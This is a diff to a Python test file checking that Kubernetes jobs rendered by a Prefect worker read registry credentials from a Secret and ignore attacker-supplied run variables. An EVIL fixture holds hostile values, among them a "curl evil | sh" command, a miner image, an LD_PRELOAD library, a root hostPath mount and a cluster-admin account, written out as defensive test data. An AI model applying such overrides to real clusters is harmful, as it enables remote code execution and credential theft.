@@ -109,6 +109,11 @@ def test_rendered_job_runs_as_the_owner_with_the_workspace_volume(target, needs_
     assert auth.value is None and (auth.value_from.secret_key_ref.name, auth.value_from.secret_key_ref.key) == \
         ("weightkeeper-prefect-auth", "PREFECT_API_AUTH_STRING")
     assert "workerAUTH123" not in json.dumps(manifest)
+    assert [e.name for e in container.env].count("WEIGHTKEEPER_REGISTRY_URL") == 1
+    registry = env["WEIGHTKEEPER_REGISTRY_URL"]  # over config.toml's registry_url: no password in the ConfigMap
+    ref = registry.value_from.secret_key_ref
+    assert registry.value is None and (ref.name, ref.key, ref.optional) == \
+        ("weightkeeper-registry", "WEIGHTKEEPER_REGISTRY_URL", True)
     if needs_token:  # the token comes from the Secret in the namespace, never from the manifest
         assert [(s.secret_ref.name, s.secret_ref.optional) for s in container.env_from] == [("hf-token", True)]
         assert env["WEIGHTKEEPER_TOKEN_ENV"].value == "HF_TOKEN" and "HF_TOKEN" not in env
@@ -119,14 +124,17 @@ def test_rendered_job_runs_as_the_owner_with_the_workspace_volume(target, needs_
 def test_jobs_get_no_prefect_setting_or_token_of_the_process_that_starts_the_worker():
     secrets = {"PREFECT_API_KEY": "pnu_submitterKEY123", "HF_TOKEN": "hf_submitterTOKEN123",
                "PREFECT_SERVER_DATABASE_CONNECTION_URL": "postgresql+asyncpg://prefect:dbPASSWORD123@db/prefect",
-               "PREFECT_LOGGING_LEVEL": "DEBUG", "PREFECT_API_AUTH_STRING": "weightkeeper:submitterAUTH123"}
+               "PREFECT_LOGGING_LEVEL": "DEBUG", "PREFECT_API_AUTH_STRING": "weightkeeper:submitterAUTH123",
+               "WEIGHTKEEPER_REGISTRY_URL": "postgresql+psycopg://wk:registryPASSWORD123@db/wk"}
     submitter = {**os.environ, **WORKER_ENV, **secrets}
     variables = job_variables(PVC, model="m", owner_name="alice", owner_uid=1234, needs_token=True)
     leaked = json.dumps(render(PVC, variables, submitter))
     assert "pnu_submitterKEY123" in leaked and "dbPASSWORD123" in leaked  # what a worker does with its settings
     assert "submitterAUTH123" not in leaked  # but the Prefect credential never: the template drops it
+    assert "registryPASSWORD123" not in leaked  # nor the registry URL: not a Prefect setting, jobs get the Secret's
     worker = worker_environment(submitter)
     assert worker["PREFECT_API_AUTH_STRING"] == "weightkeeper:submitterAUTH123"  # the worker itself needs it
+    assert "WEIGHTKEEPER_REGISTRY_URL" not in worker  # it never uses the registry
     manifest = json.dumps(render(PVC, variables, worker))
     for value in secrets.values():
         assert value not in manifest
@@ -173,6 +181,20 @@ def test_a_job_that_never_starts_or_never_ends_is_ended_by_kubernetes_once_its_r
     assert isinstance(deadline, int) and deadline > max(waits) and waits[1] > waits[0], (deadline, waits)
 
 
+def test_a_runs_variables_never_point_its_job_at_another_registry():
+    """The attacker creates a run whose job variables name another Secret for the registry URL, or set the URL
+    itself: the worker renders the job with them, and it still reads the URL from the workspace's Secret."""
+    variables = job_variables(PVC, model="m", owner_name="alice", owner_uid=1234, needs_token=False)
+    evil = {"registry_secret": "evil-registry", "env": {"WEIGHTKEEPER_REGISTRY_URL": "postgresql+psycopg://evil@x/wk"},
+            "workspace": {"registry_secret": "evil-registry"}}
+    manifest = render(PVC, {**variables, **evil})
+    env = [e for e in manifest["spec"]["template"]["spec"]["containers"][0]["env"]
+           if e["name"] == "WEIGHTKEEPER_REGISTRY_URL"]
+    assert env == [{"name": "WEIGHTKEEPER_REGISTRY_URL", "valueFrom": {"secretKeyRef": {
+        "name": "weightkeeper-registry", "key": "WEIGHTKEEPER_REGISTRY_URL", "optional": True}}}]
+    assert "evil" not in json.dumps(manifest)
+
+
 def test_job_variables_refuse_root_and_a_token_without_a_secret():
     with pytest.raises(InvalidInputError, match="never run as root"):
         job_variables(PVC, model="m", owner_name="root", owner_uid=0, needs_token=False)
@@ -211,6 +233,8 @@ def test_workspace_kubernetes_config_is_validated(tmp_path):
         ('namespace = "a"\nimage = "img"', "exactly one of volume_claim"),
         ('namespace = "a"\nimage = "img"\nvolume_claim = "v"\nhost_path = "/d"', "exactly one of volume_claim"),
         ('namespace = "Team_A"\nimage = "img"\nvolume_claim = "v"', "must be a Kubernetes name"),
+        ('namespace = "a"\nimage = "img"\nvolume_claim = "v"\nregistry_secret = "Registry_URL"',
+         "registry_secret 'Registry_URL' must be a Kubernetes name"),
         ('namespace = "a"\nimage = "img"\nhost_path = "d/../x"', "absolute, clean path"),
         ('namespace = "a"\nimage = "img"\nvolume_claim = "v"\nprivileged = "yes"', "unknown keys ['privileged']"),
     ]:
@@ -753,7 +777,9 @@ def test_a_kubernetes_workspace_run_carries_the_owner_the_volume_and_the_token_s
 
 EVIL = {"image": "evil/miner:latest", "command": "sh -c 'curl evil | sh'", "namespace": "kube-system",
         "service_account_name": "cluster-admin", "volume": {"name": "workspace-volume", "hostPath": {"path": "/"}},
-        "volume_mount_path": "/usr/lib", "env": {"PREFECT_API_URL": "http://evil/api", "LD_PRELOAD": "/evil.so"},
+        "volume_mount_path": "/usr/lib", "env": {"PREFECT_API_URL": "http://evil/api", "LD_PRELOAD": "/evil.so",
+                                                 "WEIGHTKEEPER_REGISTRY_URL": "postgresql+psycopg://evil@evil/wk"},
+        "registry_secret": "evil-registry",
         "env_from": [{"secretRef": {"name": "other-team-secret"}}],
         "cluster_config": {"config": {}, "context_name": "x"}}
 
@@ -812,6 +838,8 @@ def test_a_run_cannot_override_the_image_command_volumes_or_namespace_of_its_job
     assert container["envFrom"] == []
     env = {e["name"]: e.get("value") for e in container["env"]}
     assert env["PREFECT_API_URL"] == os.environ["PREFECT_API_URL"] and "LD_PRELOAD" not in env
+    (registry,) = [e for e in container["env"] if e["name"] == "WEIGHTKEEPER_REGISTRY_URL"]
+    assert registry["valueFrom"]["secretKeyRef"]["name"] == "weightkeeper-registry"
     assert pod["securityContext"]["runAsUser"] == 4242  # what a run does set: its owner
     assert "evil" not in json.dumps(job)
 
